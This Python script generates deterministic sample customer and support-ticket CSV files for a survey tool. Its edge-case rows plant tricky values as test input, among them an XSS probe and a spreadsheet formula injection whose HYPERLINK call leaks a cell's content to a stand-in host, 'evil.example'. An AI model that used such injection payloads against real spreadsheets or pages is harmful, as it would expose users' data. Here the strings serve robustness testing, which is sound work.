"""Generate the deterministic sample data in data/ that the example surveys read.

    python scripts/make_sample_data.py [--out DIR] [--rows N] [--now ISO] [--seed S]

Same arguments, same bytes. The data is made for the clock `--now` (default
2026-11-23T09:00:00Z, the CXOPS_NOW of the tests): signup dates, activity and
ticket times are placed so that every survey in surveys/ has people to invite.
`customers.csv` is written with a UTF-8 byte order mark, `solved_tickets.csv`
without, as exports from real tools come both ways.

`generate_customers(n, now, seed)` is importable (`from scripts.make_sample_data
import generate_customers` from the repo root) for benchmarks that need a million
synthetic contacts; pass `edge_cases=False` for clean rows only.
"""

from __future__ import annotations

import argparse
import csv
import random
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

DEFAULT_NOW = "2026-11-23T09:00:00+00:00"
DEFAULT_ROWS = 600
DEFAULT_TICKETS = 240
DEFAULT_SEED = 2026

CUSTOMER_COLUMNS = [
    "id",
    "name",
    "email",
    "company",
    "plan",
    "status",
    "seats",
    "mrr",
    "signup_date",
    "weekly_active_days",
    "csm_email",
    "locale",
    "timezone",
]
TICKET_COLUMNS = [
    "ticket_id",
    "requester_name",
    "requester_email",
    "agent_email",
    "priority",
    "solved_at",
]

FIRST_NAMES = [
    "Anna", "Ben", "Carla", "David", "Elif", "Farid", "Greta", "Hugo", "Ines", "Jonas",
    "Karin", "Luca", "Maya", "Noah", "Olga", "Pedro", "Quinn", "Rosa", "Sven", "Tara",
    "Zoë", "Jürgen", "Chloé", "João", "Søren", "Aiko", "Kenji", "Priya", "Omar", "Léa",
]  # fmt: skip
LAST_NAMES = [
    "Schmidt", "Müller", "Dubois", "Silva", "Smith", "Nguyen", "Rossi", "Kowalski",
    "Jensen", "O'Brien", "García", "Fischer", "Martin", "Costa", "Yamamoto", "Novak",
    "Andersson", "Weber", "Moreau", "Santos",
]  # fmt: skip
COMPANIES = [
    ("Northwind", "northwind.example"),
    ("Globex", "globex.example"),
    ("Initech", "initech.example"),
    ("Umbrella Analytics", "umbrella.example"),
    ("Stark Logistics", "stark.example"),
    ("Wayne Foods", "wayne.example"),
    ("Kaffeerösterei Bär", "baer.example.de"),
    ("Atelier Lumière", "lumiere.example.fr"),
    ("Padaria Sol", "sol.example.com.br"),
    ("Hooli", "hooli.example"),
    ("Vandelay Industries", "vandelay.example"),
    ("Soylent", "soylent.example"),
    ("Tyrell", "tyrell.example"),
    ("Cyberdyne", "cyberdyne.example"),
    ("渡辺商事", "watanabe.example.jp"),
]
CSMS = [
    "maria.keller@acme.example",
    "tom.becker@acme.example",
    "sofia.lind@acme.example",
    "raj.patel@acme.example",
]
AGENTS = [
    "alex@acme.example",
    "bea@acme.example",
    "chen@acme.example",
    "dora@acme.example",
]
PLANS = [("enterprise", 15), ("growth", 25), ("team", 30), ("starter", 30)]
SEATS = {"enterprise": (40, 400), "growth": (8, 80), "team": (3, 25), "starter": (1, 6)}
PRICE_PER_SEAT = {"enterprise": 45.0, "growth": 30.0, "team": 15.0, "starter": 9.0}
STATUSES = [("active", 82), ("churned", 9), ("trial", 9)]
LOCALES = [("en", 50), ("de", 20), ("fr", 10), ("pt-BR", 6), ("", 14)]
#: Where customers are, by their locale: IANA zones for send windows (`contact.timezone`).
ZONES = {
    "en": [
        ("America/New_York", 18), ("America/Chicago", 8), ("America/Los_Angeles", 10),
        ("America/Toronto", 5), ("America/Mexico_City", 3), ("Europe/London", 12),
        ("Europe/Dublin", 4), ("Europe/Madrid", 3), ("Africa/Johannesburg", 3),
        ("Asia/Dubai", 3), ("Asia/Kolkata", 7), ("Asia/Singapore", 5), ("Asia/Tokyo", 6),
        ("Australia/Sydney", 7), ("Pacific/Auckland", 3), ("", 3),
    ],
    "de": [("Europe/Berlin", 70), ("Europe/Vienna", 15), ("Europe/Zurich", 15)],
    "fr": [("Europe/Paris", 80), ("Europe/Brussels", 10), ("America/Toronto", 10)],
    "pt-BR": [("America/Sao_Paulo", 90), ("America/Manaus", 10)],
    "": [("Europe/London", 40), ("America/New_York", 30), ("Asia/Tokyo", 15), ("", 15)],
}  # fmt: skip
PRIORITIES = [("low", 25), ("normal", 45), ("high", 20), ("urgent", 10)]


def _pick(rng: random.Random, weighted: list[tuple[str, int]]) -> str:
    names = [name for name, _ in weighted]
    return rng.choices(names, weights=[weight for _, weight in weighted])[0]


def _slug(text: str) -> str:
    ascii_text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return "".join(ch for ch in ascii_text.lower() if ch.isalnum())


def _clean_customer(index: int, now: datetime, rng: random.Random) -> dict[str, str]:
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    company, domain = rng.choice(COMPANIES)
    plan = _pick(rng, PLANS)
    status = _pick(rng, STATUSES)
    low, high = SEATS[plan]
    seats = rng.randint(low, high)
    # One in eight signed up 14–45 days ago (the onboarding CES survey); others over 5 years.
    age_days = rng.randint(14, 45) if rng.random() < 0.125 else rng.randint(3, 5 * 365)
    active_days = min(7, max(0, round(rng.gauss(3.2, 1.8))))
    local = f"{_slug(first) or 'user'}.{_slug(last) or 'user'}{index}"
    return {
        "id": f"c-{index:05d}",
        "name": f"{first} {last}",
        "email": f"{local}@{domain}",
        "company": company,
        "plan": plan,
        "status": status,
        "seats": str(seats),
        "mrr": f"{seats * PRICE_PER_SEAT[plan]:.2f}",
        "signup_date": (now - timedelta(days=age_days)).date().isoformat(),
        "weekly_active_days": str(active_days),
        "csm_email": rng.choice(CSMS),
        "locale": _pick(rng, LOCALES),
    }


#: Realistic trouble, applied to fixed rows (1-based position -> changes). Rows are
#: made active with enough seats so that they reach the surveys' filters.
EDGE_CASES: dict[int, dict[str, str]] = {
    3: {"email": ""},  # missing email
    17: {"email": ""},
    29: {"email": "not-an-email"},  # invalid emails
    41: {"email": "jane.doe@"},
    53: {"email": "bob@@globex.example"},
    65: {"email": "  Anna.Schmidt@NORTHWIND.Example  "},  # upper-case domain, spaces
    77: {"email": " Kenji.Yamamoto@Hooli.EXAMPLE"},
    89: {"id": "c-00010"},  # duplicate ids (first on an earlier row)
    101: {"id": "c-00020"},
    113: {"seats": "ten"},  # unparsable seats
    125: {"seats": "n/a"},
    # No CSM: follow-ups fall back. No time zone, an unknown one, an abbreviation that is
    # not an IANA zone: a send window falls back to the survey's zone (`bad_timezone`).
    137: {"csm_email": "", "timezone": ""},
    149: {"csm_email": "", "timezone": "Mars/Olympus_Mons"},
    161: {"csm_email": "", "timezone": "CEST"},
    173: {"name": "<script>alert(1)</script>"},  # markup in a name
    185: {"name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'},  # formula
    197: {"name": "Zoë Ørsted", "locale": "fr"},  # non-ASCII names
    209: {"name": "Jürgen Müller", "locale": "de"},
    221: {"name": "渡辺 健", "locale": "en"},
    233: {"company": "Smith, Jones & Co\nHoldings Ltd"},  # comma and newline, quoted
    245: {"mrr": "1,234.50"},  # a thousands separator: mrr is a float column
    257: {"signup_date": "2026-13-01"},  # not a date
}
#: Position -> the earlier position whose email it reuses (one person, two accounts).
SHARED_EMAILS = {269: 5, 281: 7}
_SHARED_SOURCES = frozenset(SHARED_EMAILS.values())


def generate_customers(
    n: int, now: datetime, seed: int, *, edge_cases: bool = True
) -> Iterator[dict[str, str]]:
    """`n` customer rows (column -> text), deterministic for (n, now, seed).

    Streams: a million rows never sit in memory. With `edge_cases`, the rows
    listed in EDGE_CASES and SHARED_EMAILS carry realistic bad or tricky values.
    """
    rng = random.Random(seed)
    # Zones draw from a generator of their own: the other columns stay as they were.
    zones = random.Random(seed + 2)
    emails: dict[int, str] = {}
    for position in range(1, n + 1):
        row = _clean_customer(position, now, rng)
        row["timezone"] = _pick(zones, ZONES[row["locale"]])
        if edge_cases and (position in EDGE_CASES or position in SHARED_EMAILS):
            row.update(status="active", seats=str(max(int(row["seats"]), 12)))
            row.update(EDGE_CASES.get(position, {}))
            if position in SHARED_EMAILS:
                row["email"] = emails.get(SHARED_EMAILS[position], row["email"])
        if edge_cases and position in _SHARED_SOURCES:
            emails[position] = row["email"]
        yield row


def generate_tickets(
    n: int, now: datetime, seed: int, customers: list[dict[str, str]]
) -> Iterator[dict[str, str]]:
    """`n` solved support tickets from `customers`; about half solved within two days."""
    rng = random.Random(seed + 1)
    people = [row for row in customers if row["email"].strip()]
    for position in range(1, n + 1):
        person = rng.choice(people)
        hours = rng.uniform(0.5, 60) if rng.random() < 0.55 else rng.uniform(60, 24 * 20)
        solved = (now - timedelta(hours=hours)).replace(microsecond=0)
        row = {
            "ticket_id": f"T-{10000 + position}",
            "requester_name": person["name"],
            "requester_email": person["email"],
            "agent_email": rng.choice(AGENTS),
            "priority": _pick(rng, PRIORITIES),
            "solved_at": solved.isoformat().replace("+00:00", "Z"),
        }
        # A few exports write local times without an offset: read as UTC.
        if position % 37 == 0:
            row["solved_at"] = solved.replace(tzinfo=None).isoformat()
        yield row
    # Edge cases, solved an hour ago so that the CSAT filter would take them.
    recent = (now - timedelta(hours=1)).isoformat().replace("+00:00", "Z")
    yield {**_ticket(n + 1, "Ines Costa", "", recent), "priority": "urgent"}  # no email
    yield _ticket(n + 2, "Hugo Weber", "hugo.weber@", recent)  # invalid email
    yield _ticket(n + 3, "Rosa Santos", "rosa@sol.example.com.br", "yesterday")  # bad time
    yield {**_ticket(n + 4, "Omar Novak", "omar@tyrell.example", recent), "agent_email": ""}
    yield _ticket(n + 5, "=1+2", "formula@tyrell.example", recent)


def _ticket(position: int, name: str, email: str, solved_at: str) -> dict[str, str]:
    return {
        "ticket_id": f"T-{10000 + position}",
        "requester_name": name,
        "requester_email": email,
        "agent_email": AGENTS[position % len(AGENTS)],
        "priority": "normal",
        "solved_at": solved_at,
    }


def write_csv(
    path: Path, columns: list[str], rows: list[dict[str, str]], *, bom: bool = False
) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def make_sample_data(out: Path, rows: int, now: datetime, seed: int) -> list[Path]:
    """Write customers.csv and solved_tickets.csv into `out`; the paths written."""
    customers = list(generate_customers(rows, now, seed))
    tickets = list(generate_tickets(DEFAULT_TICKETS, now, seed, customers))
    written = [out / "customers.csv", out / "solved_tickets.csv"]
    write_csv(written[0], CUSTOMER_COLUMNS, customers, bom=True)
    write_csv(written[1], TICKET_COLUMNS, tickets)
    return written


def _parse_now(text: str) -> datetime:
    value = datetime.fromisoformat(text)
    return value if value.tzinfo else value.replace(tzinfo=UTC)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent.parent / "data")
    parser.add_argument("--rows", type=int, default=DEFAULT_ROWS)
    parser.add_argument("--now", type=_parse_now, default=_parse_now(DEFAULT_NOW))
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    args = parser.parse_args(argv)
    for path in make_sample_data(args.out, args.rows, args.now, args.seed):
        print(path)


if __name__ == "__main__":
    main()
